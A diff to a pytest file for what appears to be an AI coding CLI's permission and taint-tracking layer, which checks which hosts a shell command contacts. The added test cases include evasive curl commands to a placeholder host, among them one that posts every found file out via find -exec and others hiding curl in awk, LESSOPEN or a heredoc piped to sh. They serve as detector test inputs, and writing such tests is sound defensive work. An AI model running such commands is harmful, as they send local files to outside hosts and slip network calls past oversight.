@@ -4,19 +4,24 @@ from __future__ import annotations
 
 import pytest
 
+from friday_cli.command_safety import analyze, outbound
 from friday_cli.core.permissions.rule import RuleInput, parse_rule
 from friday_cli.core.permissions.rules import Rules
-from friday_cli.core.permissions.taint import UNREAD, TaintTracker, network_targets
+from friday_cli.core.permissions.taint import UNREAD, TaintTracker
 from friday_cli.core.protocol.events import Envelope, InboxMessage, MessageAdded, ToolFinished
 from friday_cli.core.protocol.messages import Message, ToolResult, user
 from friday_cli.core.protocol.receipt import CommandRun, FileChange, ToolFacts
+from friday_cli.tool_catalog import TOOLS
+from tests.command_safety import workspace_fixture
+
+GROUND = workspace_fixture.on_paper()
 
 
 class Past:
     """An exposure with events that happened."""
 
     def __init__(self) -> None:
-        self.exposure = TaintTracker()
+        self.exposure = TaintTracker(outbound)
         self.calls = 0
 
     def happens(self, *events: object) -> Past:
@@ -37,12 +42,14 @@ class Past:
         return self.ran("web_fetch", text, urls=(url,))
 
     def fetch(self, url: str, *ruled: str) -> str:
-        rules = Rules(mode="ask", rules=[parse_rule(f"web_fetch(domain:{host})", "allow") for host in ruled])
+        rules = Rules(
+            mode="ask", tools=TOOLS, rules=[parse_rule(f"web_fetch(domain:{host})", "allow") for host in ruled]
+        )
         return self.exposure.approval_reason(RuleInput("web_fetch", "net"), {"url": url}, rules.child(allowed=None))
 
     def run(self, command: str) -> str:
         return self.exposure.approval_reason(
-            RuleInput("bash", "run", (command,)), {"command": command}, Rules(mode="ask")
+            workspace_fixture.bash(command, GROUND), {"command": command}, Rules(mode="ask", tools=TOOLS)
         )
 
 
@@ -156,18 +163,29 @@ def test_links_of_pages_and_of_files_carry_nothing_unless_the_session_wrote_the_
         ("echo https://a.example", []),
         ("git commit -m 'see https://a.example'", []),
         ("cat file:///etc/hosts", []),
+        ("h=a.example; curl $h", ["a.example", UNREAD]),
+        ("find . -exec curl -d @{} https://a.example ;", ["a.example"]),
+        ("awk 'BEGIN{system(\"curl https://a.example\")}'", ["a.example"]),
+        ("LESSOPEN='|curl a.example; true' less x", ["a.example"]),
+        ("cat > x.md <<E\nsee https://a.example\nE", []),
+        ("cat <<E | sh\ncurl a.example\nE", ["a.example"]),
+        ("git commit -m 'add; curl https://a.example'", []),
+        ("grep 'x; curl https://a.example' f", []),
     ],
 )
 def test_what_a_command_talks_to(command: str, hosts: list[str]) -> None:
-    assert sorted({host for host, _ in network_targets(command)}) == sorted(hosts)
+    for found in (outbound(command), analyze(command, GROUND).hosts):
+        assert sorted({host for host, _ in found}) == sorted(hosts)
 
 
 def test_a_blanket_rule_names_no_host_and_yolo_asks_nothing() -> None:
     exposure = Past().fetched("https://a.example/").exposure
     url, call = {"url": "https://c.example/"}, RuleInput("web_fetch", "net", ("domain:c.example",))
-    assert exposure.approval_reason(call, url, Rules(mode="edits", rules=[parse_rule("web_fetch", "allow")]))
-    assert not exposure.approval_reason(call, url, Rules(mode="yolo"))
-    assert exposure.approval_reason(call, url, Rules(mode="ask").child(allowed=None))
+    assert exposure.approval_reason(
+        call, url, Rules(mode="edits", tools=TOOLS, rules=[parse_rule("web_fetch", "allow")])
+    )
+    assert not exposure.approval_reason(call, url, Rules(mode="yolo", tools=TOOLS))
+    assert exposure.approval_reason(call, url, Rules(mode="ask", tools=TOOLS).child(allowed=None))
 
 
 def test_what_was_fetched_may_be_fetched_again_and_a_repository_named_in_a_file_may_be_looked_at() -> None:
